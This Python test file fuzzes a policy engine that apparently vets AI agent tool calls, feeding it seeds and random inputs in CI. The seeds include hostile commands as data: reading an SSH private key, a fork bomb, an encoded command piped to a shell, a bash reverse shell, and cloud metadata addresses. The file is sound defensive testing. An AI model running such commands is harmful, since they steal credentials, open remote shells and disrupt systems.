"""Run the policy-engine fuzz target briefly on seeds and hypothesis inputs.

The target is the function atheris drives for longer runs; here it runs in the ordinary test
suite so a broken invariant (a crash, a non-deterministic decision, a key read let through)
shows up in CI.
"""

from __future__ import annotations

from pathlib import Path

from fuzzkit import load_target
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

_HERE = Path(__file__).parent


_SEEDS = [
    b"",
    b'\x00Bash\n{"command": "cat ~/.ssh/id_rsa"}',
    b'\x01mcp__a__b\n{"Path": "/etc", "path": {"url": "http://[::ffff:a9fe:a9fe]/"}}',
    b"\x02x\n" + b"[" * 3000 + b"]" * 3000,
    b"\x60:(){ :|:& };:",
    b"\x61echo Y2F0IC5lbnY= | base64 -d | sh",
    b"\x62bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
    b"\xa0",
    b"\xa5zz",
    b"\xb3\xff\xfe",
    b"\xe0169.254.169.254",
    b"\xe1metadata.google.internal",
    b'\x01Read\n{"file_path": "src/app.py", "offset": 2}',
    b'\x05Edit\n{"file_path": "a.py", "old_string": "x", "new_string": "AKIA2OGYBAH6STMJ3QXZ"}',
    b'\x07Write\n{"file_path": "notes.txt", "content": "hello"}',
    b'\x0bGlob\n{"pattern": "src/**/*.py"}',
]


def test_fuzz_engine_smoke() -> None:
    target = load_target("fuzz_engine")
    for seed in _SEEDS:
        target(seed)
    for mode in range(160, 224):
        target(bytes([mode]) + b"x" * (mode % 9))

    @settings(
        max_examples=300,
        deadline=None,
        database=None,
        suppress_health_check=[HealthCheck.too_slow],
    )
    @given(st.binary(max_size=200))
    def run(data: bytes) -> None:
        target(data)

    run()
